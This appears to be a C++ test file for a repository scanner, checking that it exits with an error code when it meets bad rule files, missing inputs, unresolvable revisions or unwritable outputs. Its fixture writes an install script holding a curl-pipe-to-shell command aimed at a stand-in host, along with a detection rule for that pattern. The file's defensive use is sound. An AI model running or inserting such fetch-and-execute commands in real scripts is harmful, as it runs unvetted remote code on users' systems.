// Fail closed: every input or output the gate cannot trust is exit 2, an error outranks
// findings (1) and incompleteness (3), and no report is written by a run that failed. The
// cases scan_test.cpp and gate_test.cpp already cover (invalid rule/roster/policy contents, a
// missing baseline, a range base that does not resolve) are not repeated here.
#include <sys/stat.h>
#include <unistd.h>

#include <string>
#include <vector>

#include <doctest/doctest.h>

#include "tests/support/fixture_repo.h"
#include "tests/support/run_cli.h"

using namespace provscan::test;

namespace {

const char* kRules = R"(rules:
  - id: t.fetch-pipe
    engine: signature
    severity: high
    message: "pipe to shell"
    regex: 'curl[^|\n]*\|\s*sh\b'
)";

// A repository whose scan has a finding (exit 1) and, with --max-blob-bytes 100, a blob it did
// not examine (exit 3 without the finding): whatever fails must still exit 2.
struct Repo {
  FixtureRepo repo;
  TempDir dir;
  std::string rules;
  Repo() {
    rules = dir.file("rules.yaml", kRules);
    repo.commit("base", {{"README", "hello\n"}});
    repo.commit("add", {{"install.sh", "#!/bin/sh\ncurl -s https://x.invalid/i.sh | sh\n"},
                        {"data/big.txt", std::string(500, 'x') + "\n"}});
  }
  std::vector<std::string> args(std::vector<std::string> extra, const std::string& rule_file = {}) const {
    std::vector<std::string> a = {"scan", repo.path(), "--no-default-rules", "--rules",
                                  rule_file.empty() ? rules : rule_file, "--max-blob-bytes", "100"};
    a.insert(a.end(), extra.begin(), extra.end());
    return a;
  }
};

bool has(const std::string& text, const std::string& what) { return text.find(what) != std::string::npos; }

}  // namespace

TEST_CASE("fail closed: the fixture fails the gate with findings, and is incomplete") {
  Repo r;
  CHECK(run_provscan(r.args({})).exit_code == 1);
  CHECK(run_provscan(r.args({"--fail-on", "critical"})).exit_code == 3);
}

TEST_CASE("fail closed: an engine that cannot compile a rule is exit 2 with the rule's file:line") {
  Repo r;
  // Hyperscan has no back-references: the rule file is valid YAML and a valid PCRE, and the
  // signature engine must refuse it when it builds its database.
  const std::string hs = r.dir.file("hs.yaml", R"(rules:
  - id: t.backref
    engine: signature
    severity: high
    message: "repeated word"
    regex: '(\w+) \1'
)");
  CliResult res = run_provscan(r.args({}, hs));
  CHECK(res.exit_code == 2);
  INFO(res.err);
  CHECK(has(res.err, "provscan: error: " + hs + ":6:"));
  CHECK(has(res.err, "t.backref"));
  CHECK(res.out.empty());

  // A tree-sitter query naming a node type the Python grammar does not have.
  const std::string query = r.dir.file("q.yaml", R"(rules:
  - id: t.bad-query
    engine: query
    languages: [python]
    severity: high
    message: "never compiles"
    query: |
      (call function: (no_such_node) @f) @match
)");
  res = run_provscan(r.args({}, query));
  CHECK(res.exit_code == 2);
  CHECK(has(res.err, "provscan: error: " + query + ":8:"));
  CHECK(has(res.err, "t.bad-query"));
  CHECK(has(res.err, "no_such_node"));
  CHECK(res.out.empty());

  // `rules lint` refuses the same rules the same way
  CHECK(run_provscan({"rules", "lint", hs}).exit_code == 2);
  CHECK(run_provscan({"rules", "lint", query}).exit_code == 2);

  // provscan's own limit on a signature pattern (8192 bytes), before any scan
  const std::string longer = r.dir.file("long.yaml", "rules:\n  - id: t.long\n    engine: signature\n"
                                                     "    severity: high\n    message: m\n    regex: '" +
                                                         std::string(8193, 'a') + "'\n");
  for (const auto& args : {r.args({}, longer), std::vector<std::string>{"rules", "lint", longer}}) {
    res = run_provscan(args);
    CHECK(res.exit_code == 2);
    CHECK(has(res.err, "provscan: error: " + longer + ":6:13: rule t.long: regex is 8193 bytes, longer than the "
                       "limit of 8192 bytes"));
    CHECK(res.out.empty());
  }
}

TEST_CASE("fail closed: missing rules, roster and policy files are exit 2 naming them") {
  Repo r;
  const std::string missing = r.dir.path() + "/nope";
  CliResult res = run_provscan(r.args({}, missing + ".yaml"));
  CHECK(res.exit_code == 2);
  CHECK(has(res.err, missing + ".yaml"));

  res = run_provscan(r.args({"--roster", missing + "-roster.yaml"}));
  CHECK(res.exit_code == 2);
  CHECK(has(res.err, missing + "-roster.yaml"));

  const std::string roster =
      r.dir.file("roster.yaml", "people:\n  - {id: p-1, name: A, emails: [a@x.example]}\n");
  res = run_provscan(r.args({"--roster", roster, "--policy", missing + "-policy.yaml"}));
  CHECK(res.exit_code == 2);
  CHECK(has(res.err, missing + "-policy.yaml"));

  TempDir empty;
  // a rules file that is not YAML
  res = run_provscan(r.args({}, r.dir.file("junk.yaml", "rules: [\n")));
  CHECK(res.exit_code == 2);
  // a roster or policy that is a folder
  CHECK(run_provscan(r.args({"--roster", empty.path()})).exit_code == 2);
}

TEST_CASE("fail closed: a rule folder with no rule in it is exit 2, not a pass") {
  Repo r;
  TempDir empty;
  const CliResult res = run_provscan({"scan", r.repo.path(), "--no-default-rules", "--rules", empty.path()});
  CHECK(res.exit_code == 2);
  CHECK(has(res.err, "no rules were loaded"));
}

TEST_CASE("fail closed: revisions that do not resolve are exit 2 naming them") {
  Repo r;
  for (const std::string range : {"no-such-branch", "HEAD..no-such-branch", "v9.9.9..HEAD",
                                  "0123456789abcdef0123456789abcdef01234567", "HEAD~50..HEAD"}) {
    const CliResult res = run_provscan(r.args({"--range", range, "--format", "json"}));
    INFO(range << ": " << res.err);
    CHECK(res.exit_code == 2);
    CHECK(res.out.empty());
  }
  const CliResult res = run_provscan(r.args({"--range", "HEAD..no-such-branch"}));
  CHECK(has(res.err, "no-such-branch"));
}

TEST_CASE("fail closed: an output that cannot be written is exit 2, and outranks findings") {
  Repo r;
  // the parent of the output is a regular file: not writable even by root
  const std::string file = r.dir.file("plain.txt", "x\n");
  CliResult res = run_provscan(r.args({"--format", "json", "--output", file + "/out.json"}));
  CHECK(res.exit_code == 2);
  CHECK(has(res.err, "cannot write '" + file + "/out.json'"));

  res = run_provscan(r.args({"--format", "sarif", "--output", r.dir.path() + "/missing-dir/x.sarif"}));
  CHECK(res.exit_code == 2);
  CHECK(has(res.err, "cannot write"));

  // the summary to a file, and several formats into a folder that cannot be created
  CHECK(run_provscan(r.args({"--output", file + "/summary.txt"})).exit_code == 2);
  res = run_provscan(r.args({"--format", "json", "--format", "sarif", "--output", file + "/reports"}));
  CHECK(res.exit_code == 2);
  CHECK(has(res.err, "cannot create output folder"));

  // an unwritable location for an audit's folder
  res = run_provscan({"audit", r.repo.path(), "--no-default-rules", "--rules", r.rules, "--output", file + "/audit"});
  CHECK(res.exit_code == 2);

  // a read-only folder (checked only when permissions apply to this user: root ignores them)
  const std::string ro = r.dir.path() + "/ro";
  REQUIRE(::mkdir(ro.c_str(), 0555) == 0);
  if (::access(ro.c_str(), W_OK) != 0) {
    res = run_provscan(r.args({"--format", "json", "--output", ro + "/out.json"}));
    CHECK(res.exit_code == 2);
  }
  ::chmod(ro.c_str(), 0755);
}
